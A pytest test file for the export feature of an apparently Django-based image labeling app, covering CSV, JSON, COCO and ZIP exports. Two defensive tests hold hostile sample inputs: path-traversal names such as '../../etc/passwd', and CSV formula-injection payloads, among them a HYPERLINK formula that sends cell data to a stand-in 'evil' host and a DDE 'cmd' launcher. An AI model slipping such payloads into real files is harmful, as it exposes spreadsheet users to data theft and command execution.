"""Exports: CSV, JSON, COCO and the per-tag ZIP are streamed and hold what was labeled."""
from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from django.test import Client as HttpClient
from django.urls import reverse

from labeling.models import Tag
from labeling.services import exporting, labels

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def fast_passwords(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def labeled(world, lib, monkeypatch):
    monkeypatch.setattr(labels, "request_retrain_check", lambda tid: False)
    labels.save_label(world.brand, lib.assets[0], [lib.tags["nike"]], user=world.olga)
    labels.save_label(world.brand, lib.assets[1], [lib.tags["adidas"]], user=world.alice)
    labels.save_label(world.brand, lib.assets[2], [lib.tags["nike"]])
    return lib


def download(world, kind: str, user=None) -> tuple[int, bytes, object]:
    c = HttpClient()
    c.force_login(user or world.vic)
    r = c.get(reverse("export", args=["acme", world.brand.pk, kind]))
    body = b"".join(r.streaming_content) if getattr(r, "streaming", False) else r.content
    return r.status_code, body, r


def test_csv_lists_each_labeled_asset_with_tags_probabilities_who_and_model(world, labeled):
    status, body, r = download(world, "csv")
    assert status == 200 and r.streaming and r["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    assert [(int(x["asset_id"]), x["tags"], x["labeled_by"]) for x in rows] == [
        (labeled.assets[0].pk, "nike", "olga"), (labeled.assets[1].pk, "adidas", "alice"), (labeled.assets[2].pk, "nike", ""),
    ]
    assert rows[0]["model_version"] == "1" and json.loads(rows[0]["probabilities"]) == {"adidas": 0.8, "converse": 0.1, "nike": 0.1}


def test_json_is_one_valid_document_and_can_include_unlabeled_assets(world, labeled):
    _, body, _ = download(world, "json")
    doc = json.loads(body)
    assert doc["model_version"]["version"] == 1 and len(doc["assets"]) == 3
    assert doc["assets"][1]["tags"] == ["adidas"] and doc["assets"][1]["suggested"] == "converse"
    everything = "".join(exporting.stream_json(world.brand, labeled_only=False))
    assert len(json.loads(everything)["assets"]) == 6


def test_coco_has_images_categories_and_one_annotation_per_label(world, labeled):
    _, body, _ = download(world, "coco")
    coco = json.loads(body)
    assert {c["name"] for c in coco["categories"]} == {"adidas", "converse", "nike"}
    assert [i["id"] for i in coco["images"]] == [a.pk for a in labeled.assets[:3]]
    assert [(a["image_id"], a["category_id"]) for a in coco["annotations"]] == [
        (labeled.assets[0].pk, labeled.tags["nike"]), (labeled.assets[1].pk, labeled.tags["adidas"]),
        (labeled.assets[2].pk, labeled.tags["nike"]),
    ]


def test_zip_sorts_images_into_one_folder_per_tag_with_their_bytes(world, labeled):
    status, body, r = download(world, "zip")
    assert status == 200 and r["Content-Type"] == "application/zip"
    with zipfile.ZipFile(io.BytesIO(body)) as zf:
        assert zf.testzip() is None
        names = sorted(zf.namelist())
        assert names == sorted([
            f"brand/nike/{labeled.assets[0].pk}-img-0.png", f"brand/adidas/{labeled.assets[1].pk}-img-1.png",
            f"brand/nike/{labeled.assets[2].pk}-img-2.png",
        ])
        assert zf.read(names[0]) == labeled.assets[1].file.open("rb").read()


def test_the_zip_is_streamed_in_pieces_not_built_whole(world, labeled, monkeypatch):
    monkeypatch.setattr(exporting, "CHUNK", 16)
    pieces = [p for p in exporting.stream_zip(world.brand) if p]
    assert len(pieces) > 10 and max(map(len, pieces)) < 400


def test_unsafe_names_cannot_escape_their_folder(world):
    for evil in ("../../etc/passwd", "..", "a\\..\\b", "/abs"):
        name = exporting.safe_name(evil)
        assert "/" not in name and "\\" not in name and name not in ("", ".", "..")


def test_exports_are_404_for_other_clients_and_unknown_kinds(world, labeled):
    assert download(world, "csv", user=world.otto)[0] == 404
    assert download(world, "pdf")[0] == 404


def test_csv_cells_that_start_like_a_formula_open_as_text(world, labeled):
    # Tag and file names come from users and ZIPs: a spreadsheet must not run them.
    lib = labeled
    Tag.objects.filter(pk=lib.tags["nike"]).update(name='=HYPERLINK("http://evil/?"&A1,"x")')
    lib.assets[0].original_name = "+cmd|' /C calc'!A0.png"
    lib.assets[0].save()
    _, body, _ = download(world, "csv")
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    assert rows[0]["file"] == "'+cmd|' /C calc'!A0.png"
    assert rows[0]["tags"] == '\'=HYPERLINK("http://evil/?"&A1,"x")'
    assert rows[1]["tags"] == "adidas" and rows[0]["asset_id"] == str(lib.assets[0].pk)  # plain cells untouched


def test_a_non_ascii_taxonomy_name_gives_a_utf8_download_name(world, labeled):
    world.brand.name = "Marke Größe"
    world.brand.save()
    _, _, r = download(world, "csv")
    assert r["Content-Disposition"] == "attachment; filename*=utf-8''acme-Marke_Gr%C3%B6%C3%9Fe.csv"
